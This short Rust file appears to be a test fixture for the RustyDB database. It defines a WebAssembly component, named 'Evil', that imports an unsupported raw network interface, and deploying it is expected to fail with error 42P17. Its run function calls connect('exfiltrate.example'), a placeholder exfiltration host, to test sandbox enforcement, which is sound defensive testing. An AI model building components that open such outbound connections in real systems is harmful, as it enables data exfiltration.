//! `forbidden`: a component that imports a raw network interface RustyDB
//! does not provide. Deploying it must fail with 42P17.

wit_bindgen::generate!({
    inline: r#"
        package acme:net;

        interface raw {
            connect: func(host: string) -> u32;
        }

        world evil {
            import raw;
            export run: func() -> u32;
        }
    "#,
});

struct Evil;

impl Guest for Evil {
    fn run() -> u32 {
        acme::net::raw::connect("exfiltrate.example")
    }
}

export!(Evil);
